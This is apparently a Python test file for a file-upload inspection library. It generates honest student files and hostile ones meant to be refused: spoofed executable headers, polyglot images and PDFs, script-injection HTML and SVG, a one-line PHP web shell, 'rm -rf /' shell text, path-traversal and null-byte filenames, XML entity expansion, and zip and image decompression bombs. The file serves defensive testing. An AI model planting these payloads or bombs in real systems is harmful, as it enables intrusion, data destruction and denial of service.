"""Files that must be refused, and honest ones that must pass, made here: no sample of anybody's malware is needed.

`python -m tests.hostile_files` looks into all of them and prints what came of each, and the most memory a child took.
"""

import bz2
import gzip
import io
import json
import lzma
import random
import resource
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import docx
import pptx
from PIL import Image, PngImagePlugin
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from quokkaq.lib.inspecting import (
    IMAGES,
    LIMITS,
    TYPES,
    RefusedFile,
    Rejection,
    claimed_type,
    first_look,
    inspect,
    reencode,
)
from quokkaq.lib.inspecting.heads import HEAD, TAIL

MB = 1024 * 1024
Files = Iterator[tuple[str, bytes]]


@dataclass(frozen=True)
class Sample:
    """A file: what it tries, its name, its bytes, and what it would be uploaded for."""

    label: str
    name: str
    data: bytes
    purpose: str = "attachment"


# Honest files


def picture(kind: str = "PNG", size: tuple[int, int] = (320, 200), mode: str = "RGB", **options: object) -> bytes:
    image = Image.effect_mandelbrot(size, (-2.0, -1.0, 1.0, 1.0), 60).convert(mode)
    output = io.BytesIO()
    image.save(output, kind, **options)
    return output.getvalue()


def plain_picture(kind: str, size: tuple[int, int], mode: str = "RGB") -> bytes:
    output = io.BytesIO()
    Image.new(mode, size).save(output, kind)
    return output.getvalue()


@cache
def pdf(text: str = "Pointers point.") -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode())
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


@cache
def word() -> bytes:
    document = docx.Document()
    document.add_heading("Exercise 3")
    document.add_paragraph("A pointer holds an address.")
    document.add_picture(io.BytesIO(picture()), width=docx.shared.Inches(2))
    document.add_table(3, 3)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


@cache
def slides() -> bytes:
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.shapes.title.text = "Trees"
    slide.shapes.add_picture(io.BytesIO(picture("JPEG")), Inches(1), Inches(1))
    slide.notes_slide.notes_text_frame.text = "Say why."
    output = io.BytesIO()
    presentation.save(output)
    return output.getvalue()


def packed(files: Files | list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", method) as archive:
        for name, data in files:
            archive.writestr(name, data)
        archive.comment = comment
    return output.getvalue()


def repacked(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """Return an archive with files replaced, added, or (None) left out."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    merged = files | {name: value for name, value in changes.items() if value is not None}
    return packed([(name, value) for name, value in merged.items() if changes.get(name, b"") is not None])


def replaced(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """Return an archive with bytes of one part replaced; they must be there."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = archive.read(part)
    if old not in content:
        raise ValueError(f"{part} has no {old!r}")
    return repacked(data, {part: content.replace(old, new, 1)})


_XLSX_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml."
_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MAIN_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@cache
def workbook(cell: bytes = b"<c><v>1</v></c>") -> bytes:
    return packed(
        [
            (
                "[Content_Types].xml",
                _XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                b'<Override PartName="/xl/workbook.xml" ContentType="' + _XLSX_TYPE + b'sheet.main+xml"/>'
                b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="' + _XLSX_TYPE + b'worksheet+xml"/></Types>',
            ),
            ("_rels/.rels", _XML + _RELS + b'<Relationship Id="r1" Type="' + _REL + b'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
            ("xl/workbook.xml", _XML + b"<workbook " + _MAIN_NS + b"><sheets/></workbook>"),
            ("xl/_rels/workbook.xml.rels", _XML + _RELS + b'<Relationship Id="r1" Type="' + _REL + b'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
            ("xl/worksheets/sheet1.xml", _XML + b"<worksheet " + _MAIN_NS + b"><sheetData><row>" + cell + b"</row></sheetData></worksheet>"),
        ]
    )  # fmt: skip


NOTEBOOK = json.dumps(
    {
        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Sorting\n", "<div>with a tag</div>"]},
            {"cell_type": "code", "metadata": {}, "source": "print(1)", "execution_count": 1, "outputs": [
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>draw()</script>", "image/png": "iVBORw0KGgo="}}]},
        ],
    }
).encode()  # fmt: skip

TYPICAL: dict[str, bytes] = {}


def typical() -> dict[str, bytes]:
    """Return one honest file for each extension."""
    if not TYPICAL:
        TYPICAL.update(
            {
                ".png": picture(), ".jpg": picture("JPEG"), ".webp": picture("WEBP"), ".gif": picture("GIF", mode="L"),
                ".pdf": pdf(), ".docx": word(), ".pptx": slides(), ".xlsx": workbook(), ".zip": packed([("src/main.c", b"int main;")]),
                ".txt": b"A pointer holds an address.\n", ".md": b"# Pointers\n\nThey *point*.\n", ".csv": b"name,points\nSam,3\n",
                ".json": b'{"a": [1, 2, {"b": null}], "c": NaN}', ".ipynb": NOTEBOOK, ".py": b"#!/usr/bin/env python3\nprint(1)\n",
            }
        )  # fmt: skip
    return TYPICAL


def honest() -> Iterator[Sample]:
    """Yield files as students and teachers have them."""
    for extension, data in typical().items():
        yield Sample(f"typical {extension}", f"Übung 3{extension}", data)
    files = dict(_honest_pictures()) | dict(_honest_texts()) | dict(_honest_documents())
    for name, data in files.items():
        yield Sample(f"honest {name}", name.split("/")[-1], data)
    for extension in (".png", ".jpg", ".webp"):
        yield Sample(f"avatar {extension}", f"me{extension}", typical()[extension], "avatar")
    for extension in (".pdf", ".pptx", ".docx", ".ipynb", ".md", ".txt"):
        yield Sample(f"material {extension}", f"lecture{extension}", typical()[extension], "material")
    page = b"<!DOCTYPE html>\n<html lang=en><head><title>Trees</title><script src=x.js></script></head><body><h1>Trees</h1></body></html>"
    yield Sample("material page", "lecture.html", page, "material")
    yield Sample(
        "material page in Latin-1",
        "alt.htm",
        "<html><meta charset=latin-1><p>Übung</p></html>".encode("latin-1"),
        "material",
    )


def _honest_pictures() -> Files:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "Camera", {1: "N", 2: (52.0, 31.0, 0.0)}
    yield "phone.jpg", picture("JPEG", exif=exif.tobytes())
    yield "progressive.jpeg", picture("JPEG", progressive=True)
    yield "cmyk.jpg", picture("JPEG", mode="CMYK")
    yield "grey.png", picture(mode="L")
    yield "transparent.png", picture(mode="RGBA")
    yield "palette.png", picture(mode="P")
    yield "bits.png", picture(mode="1")
    yield "deep.png", picture(mode="I;16")
    yield "lossless.webp", picture("WEBP", lossless=True)
    info = PngImagePlugin.PngInfo()
    info.add_itxt("Comment", "Screenshot – für Übung 3", zip=True)
    yield "screenshot.PNG", picture(size=(1920, 1080), pnginfo=info)
    yield "padded.jpg", picture("JPEG") + bytes(64)
    for kind, name, size, mode in (
        ("JPEG", "high-resolution.jpg", (7600, 5200), "RGB"), ("PNG", "five-k.png", (5120, 2880), "RGBA"),
        ("WEBP", "photo.webp", (4000, 3000), "RGB"), ("GIF", "large.gif", (4900, 3200), "L"),
    ):  # fmt: skip
        output = io.BytesIO()
        Image.linear_gradient("L").resize(size).convert(mode).save(output, kind)
        yield name, output.getvalue()
    frames = [Image.new("L", (40, 40), shade) for shade in (0, 99, 200)]
    for kind, name in (
        ("GIF", "moving.gif"),
        ("WEBP", "moving.webp"),
        ("PNG", "moving.png"),
        ("MPO", "two-in-one.jpg"),
    ):
        output = io.BytesIO()
        frames[0].save(output, kind, save_all=True, append_images=frames[1:])
        yield name, output.getvalue()


def _honest_texts() -> Files:
    yield "bom.txt", "\ufeffUmläute\r\n".encode()
    yield "notepad.txt", "Ein Blatt – mit Umläuten\r\n".encode("utf-16")
    yield "big-endian.csv", b"\xfe\xff" + "a;b\n1;2\n".encode("utf-16-be")
    yield "bm25.txt", b"BM25 ranks documents.\n"
    yield "mz.txt", b"MZ is my name. I ask about <html> and <script> tags.\n"
    yield "question.txt", b"Why does this fail?\n\n<html><body>hi</body></html>\n\nIt prints <?php nothing.\n"
    yield (
        "centered.md",
        b'<!-- made by hand -->\n<div align="center"><img src="logo.png"></div>\n\n<details><summary>More</summary>x</details>\n',
    )
    yield "front.md", b"---\ntitle: x\n---\n\n| a | b |\n|---|---|\n"
    yield "web.md", b"# HTML\n\n```html\n<!DOCTYPE html>\n<script>alert(1)</script>\n```\n"
    yield "emoji.md", "Family: \U0001f468\u200d\U0001f469\u200d\U0001f467 and می\u200cخواهم\n".encode()
    yield "numbers.csv", b"x,y\n-1,+2\n=A1+B1,3\n-1e5,@home\n"
    yield "semi.tsv", "größe\twert\n1\t2\n".encode()
    yield "Main.java", b"package x;\n/* a\x0cpage */\npublic class Main<T extends Comparable<T>> { }\n"
    yield "list.h", b"#include <stdio.h>\n#define MAX 3\n"
    yield "plot.R", b"x <- c(1, 2)\n"
    yield "query.sql", b"-- first\nSELECT * FROM a WHERE b < 3;\n"
    yield "paper.tex", b"\\documentclass{article}\n\\begin{document}$a<b$\\end{document}\n"
    yield "Sort.hs", b"module Sort where\nimport Data.List\n"
    yield "main.rs", b"#![allow(dead_code)]\nfn main() {}\n"
    yield "view.js", b"const a = `<html>`;\n"
    yield "generic.ts", b"function id<T>(x: T): T { return x }\n"
    yield "deep.json", b"[" * 60 + b"]" * 60
    yield "long.txt", b"All work and no play.\n" * 100_000
    yield "log.log", b"10:00 INFO started\n"
    yield "empty-cells.ipynb", b'{"nbformat": 4, "nbformat_minor": 2, "metadata": {}, "cells": []}'


def _honest_documents() -> Files:
    links = docx.Document()
    links.part.relate_to("https://example.edu/a?b=c d", _REL.decode() + "hyperlink", is_external=True)
    links.part.relate_to("mailto:sam@example.edu", _REL.decode() + "hyperlink", is_external=True)
    links.part._settings_part.relate_to(
        "file:///C:\\Users\\sam\\Templates\\Report.dotx", _REL.decode() + "attachedTemplate", is_external=True
    )
    output = io.BytesIO()
    links.save(output)
    yield "linked.docx", output.getvalue()
    yield (
        "reference.docx",
        replaced(
            word(),
            "word/document.xml",
            b"<w:body>",
            b'<w:body><w:p><w:r><w:instrText>TOC \\o "1-3" GRAND DE X</w:instrText></w:r></w:p>',
        ),
    )
    presentation = pptx.Presentation(io.BytesIO(slides()))
    numbers = CategoryChartData()  # type: ignore[no-untyped-call]  # untyped in python-pptx
    numbers.categories = ["a", "b"]
    numbers.add_series("s", (1, 2))  # type: ignore[no-untyped-call]  # untyped in python-pptx
    try:
        presentation.slides[0].shapes.add_chart(XL_CHART_TYPE.PIE, 0, 0, Inches(2), Inches(2), numbers)
        output = io.BytesIO()
        presentation.save(output)
        yield "chart.pptx", output.getvalue()
    except ImportError:  # needs a writer of workbooks
        yield "chart.pptx", repacked(slides(), {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()})
    yield "formula.xlsx", workbook(b"<c><f>SUM(A1:A3)*CALLS</f></c>")
    writer = PdfWriter()
    first = writer.add_blank_page(300, 300)
    writer.add_blank_page(300, 300)
    writer.add_outline_item(title="Start", page_number=0)
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.edu/slides"))
    writer.add_metadata({"/Title": "Trees", "/Creator": "LaTeX with hyperref"})
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([first.indirect_reference, NameObject("/Fit")]),
        }
    )
    yield "hyperref.pdf", written(writer)
    writer.compress_identical_objects()
    yield "packed.pdf", object_stream_pdf([])
    output = io.BytesIO()
    Image.new("RGB", (1000, 1400), "white").save(output, "PDF")
    yield "scan.pdf", output.getvalue()
    yield "newline.pdf", pdf() + b"\r\n\r\n"
    yield "project.zip", packed([
        ("project/", b""), ("project/index.html", b"<html><script>x</script></html>"), ("project/run.sh", b"#!/bin/sh\nmake\n"),
        ("project/a.docx", word()), ("project/b.pdf", pdf()), ("project/pic.png", picture()), ("project/.gitignore", b""), ("project/notes.txt", b"A PDF begins with %PDF-1.7"),
        ("project/größe.txt", b"x"),
    ])  # fmt: skip
    yield "github.zip", packed([("repo-main/README.md", b"# x")], comment=b"9fceb02c5a2d6c1c7a1cf4a2d4b6f9d1c0d5b7aa")
    yield "stored.zip", packed([("a.txt", b"abc" * 100)], zipfile.ZIP_STORED)
    yield "streamed.zip", streamed([("a.txt", b"abc" * 100), ("b/c.txt", b"")])
    yield "data.zip", packed([("points.csv", b"1,2,3\n" * 200_000)])


class _Unseekable(io.RawIOBase):
    """An output that can't be gone back in, as a pipe: sizes then stand behind each entry."""

    def __init__(self) -> None:
        self.pieces: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: object) -> int:
        self.pieces.append(bytes(data))  # type: ignore[call-overload]  # any buffer
        return len(self.pieces[-1])


def streamed(files: list[tuple[str, bytes]]) -> bytes:
    output = _Unseekable()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return b"".join(output.pieces)


def object_stream_pdf(extra: list[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF 1.5 whose catalog, and `extra` objects from number 10 on, stand in a compressed object stream."""
    inside = {1: b"<</Type/Catalog/Pages 2 0 R" + (b"/Names 10 0 R" if extra else b"") + b">>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"}  # fmt: skip
    inside |= {10 + index: text for index, text in enumerate(extra)}
    index, body = b"", b""
    for number, text in inside.items():
        index += b"%d %d " % (number, len(body))
        body += text + b" "
    content = zlib.compress(index + body)
    data = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    at = len(data)
    data += b"4 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        len(inside),
        len(index),
        len(content),
    )
    data += content + b"\nendstream\nendobj\n"
    start = len(data)
    rows = b""
    for number in range(10 + len(extra)):
        if number in inside:
            rows += struct.pack(">BIH", 2, 4, list(inside).index(number))
        elif number == 4:
            rows += struct.pack(">BIH", 1, at, 0)
        elif number == 5:
            rows += struct.pack(">BIH", 1, start, 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    table = zlib.compress(rows)
    data += b"5 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d%s>>\nstream\n" % (
        10 + len(extra),
        len(table),
        trailer,
    )
    return data + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


# Hostile files

MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + b"\x80\0\0\0"
    + b"!This program cannot be run in DOS mode.\r\r\n$"
    + bytes(64)
    + b"PE\0\0d\x86"
)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(100)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100)
CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\x03\0\xfe\xff\x09\0" + bytes(1000)
RTF = b"{\\rtf1\\ansi{\\object\\objocx{\\*\\objdata 0105000002000000}}}"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
MHTML = (
    b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    + PAGE
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
PHP = b"<?php system($_GET['c']); ?>"


def hostile() -> Iterator[Sample]:
    """Yield files each of which tries something."""
    for name in ("x.pdf.exe", "x.exe", "x.svg", "x.html", "x.xhtml", "x.docm", "x.xlsm", "x.pptm", "x.doc", "x.jar", "x.js.lnk", "x.php",
                 "x.bat", "x.sh", "x.rar", "x.7z", "x.tar.gz", "x.iso", "x.hta", "x", ".htaccess", "x.exe.", "x.pdf.", "x.swf", "x.rtf",
                 "x.xml", "x.mht", "x.ps1", "x.vbs", "x.msi", "x.dmg", "x.tiff", "x.bmp", "x.ico", "x.heic", "x.psd", "x.eps", "x.xll"):  # fmt: skip
        yield Sample(f"name {name}", name, typical()[".txt"])
    for name in ("ab\u202efdp.txt", "a\x00.txt", "a\n.txt", "../a.txt", "a\\b.txt", "a/b.txt", "x.exe:.txt", "x.asp;.txt", "x.php%00.txt", "a\u200b.txt",
                 "a\u2066b.txt", "n" * 300 + ".txt", "\x1b[2J.txt", "\ud800.txt"):  # fmt: skip
        yield Sample(f"name {name!r}", name, typical()[".txt"])
    yield Sample("avatar gif", "me.gif", typical()[".gif"], "avatar")
    yield Sample("avatar svg", "me.svg", SVG, "avatar")
    yield Sample("avatar pdf", "me.pdf", typical()[".pdf"], "avatar")
    yield Sample("material zip", "m.zip", typical()[".zip"], "material")
    yield Sample("material svg as page", "m.html", SVG, "material")
    yield Sample("material php as page", "m.html", PHP, "material")
    yield Sample("material text as page", "m.html", b"just words", "material")
    yield from _spoofed()
    for group in (_polyglots, _disguised, _bad_pictures, _bad_archives, _bad_office, _bad_pdfs, _bad_texts):
        for index, (name, data) in enumerate(group()):
            yield Sample(f"{group.__name__[1:]} {index} {name}", name.split("/")[-1], data)


_TEXTUAL = {".txt", ".md", ".csv", ".py"}


def _spoofed() -> Iterator[Sample]:
    """Every type under every other's extension, but text under names of other text."""
    other = {
        "exe": MZ, "elf": ELF, "macho": MACHO, "class": CLASS, "ole": OLE, "rtf": RTF, "svg": SVG, "page": PAGE, "xhtml": XHTML, "mhtml": MHTML,
        "php": PHP, "shell": b"#!/bin/sh\nrm -rf /\n", "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50), "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "gzip": gzip.compress(b"x" * 99), "xz": lzma.compress(b"x" * 99), "bzip2": bz2.compress(b"x" * 99), "tiff": plain_picture("TIFF", (9, 9)),
        "bmp": plain_picture("BMP", (9, 9)), "ico": plain_picture("ICO", (16, 16)), "tar": _tar(), "ps": b"%!PS-Adobe-3.0\nshowpage\n",
        "mp4": b"\0\0\0\x18ftypmp42" + bytes(50), "sqlite": b"SQLite format 3\0" + bytes(90), "lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "noise": random.Random(1).randbytes(3000), "nulls": bytes(3000), "avif": b"\0\0\0\x1cftypavif" + bytes(50),
        "zeros": b"", "space": b" \n\t\r\n",
    }  # fmt: skip
    everything = typical() | other
    for real, data in everything.items():
        for extension in typical():
            both_text = real in _TEXTUAL | {".json", ".ipynb"} and extension in _TEXTUAL
            if real != extension and not both_text:
                yield Sample(f"{real} as {extension}", f"x{extension}", data)


def _tar() -> bytes:
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"), io.BytesIO())
    return output.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def _in_png(chunk: bytes) -> bytes:
    data = picture()
    return data[:33] + chunk + data[33:]


def _in_jpeg(comment: bytes) -> bytes:
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + data[2:]


def _polyglots() -> Files:
    archive, jar = packed([("a.txt", b"x")]), packed([("META-INF/MANIFEST.MF", b"Main-Class: X"), ("X.class", CLASS)])
    gif, png, jpeg, webp, document = picture("GIF", mode="L"), picture(), picture("JPEG"), picture("WEBP"), pdf()
    for extension, data in ((".gif", gif), (".png", png), (".jpg", jpeg), (".webp", webp), (".pdf", document)):
        for what, more in (
            ("jar", jar),
            ("page", PAGE),
            ("php", PHP),
            ("exe", MZ),
            ("rar", b"Rar!\x1a\x07\x00"),
            ("png", png),
            ("pdf", document),
            ("noise", random.Random(2).randbytes(400)),
        ):
            if what != "pdf" or extension != ".pdf":
                yield f"{what} behind/x{extension}", data + more
    yield "page before/x.pdf", PAGE + b"\n" + document
    yield "line before/x.pdf", b"\n" + document
    yield "gif before/x.pdf", b"GIF89a" + document
    yield "exe before/x.pdf", MZ + document
    yield "zip before/x.pdf", archive + document
    yield "in comment/x.zip", packed([("a.txt", b"x")], comment=document)
    yield "page in comment/x.zip", packed([("a.txt", b"x")], comment=PAGE)
    yield "exe before/x.zip", MZ + archive
    yield "elf before/x.docx", ELF + word()
    yield "shell before/x.zip", b"#!/bin/sh\nexit\n" + archive
    yield "gif before/x.zip", gif + archive
    yield "pdf first/x.zip", _with_offset(document, archive)
    yield "behind/x.zip", archive + b"tail"
    yield "behind/x.docx", word() + PAGE
    yield "two/x.zip", archive + packed([("b.txt", b"y")])
    yield "text chunk/x.png", _in_png(_png_chunk(b"tEXt", b"Comment\0" + PHP))
    yield "page chunk/x.png", _in_png(_png_chunk(b"tEXt", b"Comment\0" + PAGE))
    yield "zip chunk/x.png", _in_png(_png_chunk(b"zIPc", archive))
    yield "pdf chunk/x.png", _in_png(_png_chunk(b"pDFx", document))
    yield "php comment/x.jpg", _in_jpeg(PHP)
    yield "page comment/x.jpg", _in_jpeg(b"--><script>alert(1)</script><!--")
    yield "zip comment/x.jpg", _in_jpeg(archive)
    yield "pdf comment/x.jpg", _in_jpeg(document)
    exif = Image.Exif()
    exif[0x010F] = "<script>alert(1)</script>"
    yield "exif/x.jpg", picture("JPEG", exif=exif.tobytes())
    yield "js/x.gif", b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)"
    yield "zip inside/x.pdf", document.replace(b"%%EOF", b"% " + archive + b"\n%%EOF")
    yield "php inside/x.pdf", document.replace(b"%%EOF", b"% " + PHP + b"\n%%EOF")
    yield (
        "chunk/x.webp",
        webp[:4]
        + (len(webp) - 8 + 8 + len(PAGE) + len(PAGE) % 2).to_bytes(4, "little")
        + webp[8:]
        + b"JUNK"
        + len(PAGE).to_bytes(4, "little")
        + PAGE
        + b"\0" * (len(PAGE) % 2),
    )
    yield "zip/x.txt", b"words\n" + archive
    yield "pdf/x.txt", document
    yield "pdf/x.md", b"# x\n" + document
    yield "html+pdf/x.md", b"<!--\n%PDF-1.4\n-->" + PAGE
    yield "mz in text/x.py", MZ


def _with_offset(first: bytes, archive: bytes) -> bytes:
    """Return bytes before an archive whose offsets were put right, so that every program opens it."""
    output = io.BytesIO(first)
    output.seek(0, io.SEEK_END)
    with zipfile.ZipFile(output, "a") as target:
        target.writestr("a.txt", b"x")
    return output.getvalue()


def _disguised() -> Files:
    for extension in (".txt", ".csv", ".md", ".py", ".json"):
        for label, data in (
            ("svg", SVG), ("page", PAGE), ("xhtml", XHTML), ("bom", b"\xef\xbb\xbf" + PAGE), ("utf-16", PAGE.decode().encode("utf-16")),
            ("utf-16-be", b"\xfe\xff" + SVG.decode().encode("utf-16-be")), ("no mark", PAGE.decode().encode("utf-16-le")),
            ("space", b" \r\n\t \x0c" + PAGE), ("comment", b"<!-- a -->\n<!-- b -->" + SVG), ("long comment", b"<!--" + b"x" * 3000 + b"-->" + PAGE),
            ("upper", b"<HTML><SCRIPT>alert(1)</SCRIPT>"), ("script", b"<script>alert(1)</script>"), ("iframe", b"<iframe src=javascript:alert(1)>"),
            ("laughs", LAUGHS), ("mhtml", MHTML), ("mail", b"Subject: x\nContent-Type: text/html\n\n" + PAGE), ("rtf", RTF), ("utf-7", b"+ADw-script+AD4-\xff"),
            ("hta", b"<hta:application/><script>x</script>"), ("wsf", b"<job><script language=VBScript>x</script></job>"), ("php", PHP), ("asp", b"<% eval %>"),
            ("shell", b"#!/bin/bash\nrm -rf /\n"), ("batch", b"@echo off\r\ndel *\r\n"), ("link", b"[InternetShortcut]\nURL=file://x/y\n"),
            ("desktop", b"[Desktop Entry]\nExec=sh\n"), ("registry", b"Windows Registry Editor Version 5.00\n"), ("feed", b'<?xml version="1.0"?><rss/>'),
            ("utf-32", b"\xff\xfe\0\0" + PAGE.decode().encode("utf-32-le")), ("xslt", b'<xsl:stylesheet version="1.0"/>'),
        ):  # fmt: skip
            yield f"{label}/x{extension}", data


def _bad_pictures() -> Files:
    png, jpeg, webp, gif = picture(), picture("JPEG"), picture("WEBP"), picture("GIF", mode="L")
    for extension, data in ((".png", png), (".jpg", jpeg), (".webp", webp), (".gif", gif)):
        for share in (3, 2):
            yield f"cut/x{extension}", data[: len(data) // share]
        yield f"short/x{extension}", data[:-3]
        yield f"head/x{extension}", data[:12]
    yield "damaged/x.png", png[:60] + bytes(200) + png[260:]
    yield (
        "huge/x.png",
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(bytes(9_000_000)))
        + _png_chunk(b"IEND", b""),
    )
    yield (
        "lying/x.png",
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 6000, 6000, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(b""))
        + _png_chunk(b"IEND", b""),
    )
    yield "bomb/x.png", plain_picture("PNG", (12000, 12000), "1")
    yield "wide/x.png", plain_picture("PNG", (40000, 20), "1")
    yield "bomb/x.jpg", plain_picture("JPEG", (9000, 9000), "L")
    yield "bomb/x.gif", plain_picture("GIF", (9000, 9000), "L")
    yield "bomb/x.webp", plain_picture("WEBP", (9000, 9000))
    yield "text bomb/x.png", _in_png(_png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 * MB), 9)))
    big = bytearray(gif)
    big[6:10] = struct.pack("<HH", 65535, 65535)
    yield "dimensions/x.gif", bytes(big)
    huge = bytearray(jpeg)
    at = huge.find(b"\xff\xc0")
    huge[at + 5 : at + 9] = struct.pack(">HH", 65500, 65500)
    yield "dimensions/x.jpg", bytes(huge)


def _patched(data: bytes, *patches: tuple[bytes, int, bytes]) -> bytes:
    """Return bytes with some overwritten: behind the first place of a signature, at an offset from it."""
    made = bytearray(data)
    for signature, offset, new in patches:
        at = made.find(signature) + offset
        made[at : at + len(new)] = new
    return bytes(made)


LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"


def _entry_named(name: str, *, mode: int = 0o100644, data: bytes = b"x") -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        info = zipfile.ZipInfo("n")
        info.filename = name
        info.create_system = 3
        info.external_attr = mode << 16
        archive.writestr(info, data)
    return output.getvalue()


def overlapping(copies: int, size: int) -> bytes:
    """Return a bomb in which many entries share one kernel of compressed bytes.

    Each entry's stream begins with a stored block that quotes the next entry's header. Source: D. Fifield, “A better zip bomb”.
    """
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = squeezer.compress(bytes(size)) + squeezer.flush()
    content = bytes(size)
    told = []
    for number in reversed(range(copies)):
        name = b"%03d.txt" % number
        crc = zlib.crc32(content)
        header = struct.pack("<4s5H3I2H", LOCAL, 20, 0, 8, 0, 0, crc, len(rest), len(content), len(name), 0) + name
        told.append((name, crc, len(rest), len(content), len(header)))
        last = number == 0
        if not last:
            content = header + content
            rest = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + rest
    data = header + rest
    directory, at = b"", 0
    for name, crc, packed_size, unpacked, length in reversed(told):
        directory += (
            struct.pack(
                "<4s6H3I5H2I", CENTRAL, 20, 20, 0, 8, 0, 0, crc, packed_size, unpacked, len(name), 0, 0, 0, 0, 0, at
            )
            + name
        )
        at += length + 5
    return data + directory + struct.pack("<4s4H2IH", END, 0, 0, copies, copies, len(directory), len(data), 0)


def _bad_archives() -> Files:
    simple = packed([("a.txt", b"x" * 50), ("b.txt", b"y" * 50)])
    yield "empty/x.zip", packed([])
    yield "folders/x.zip", packed([("a/", b"")])
    yield "bomb/x.zip", packed([("a.txt", bytes(60 * MB))])
    yield "many bombs/x.zip", packed([(f"{n}.txt", bytes(3 * MB)) for n in range(80)])
    yield "entries/x.zip", packed([(f"{n}.txt", b"") for n in range(6000)])
    yield "overlap/x.zip", overlapping(50, MB)
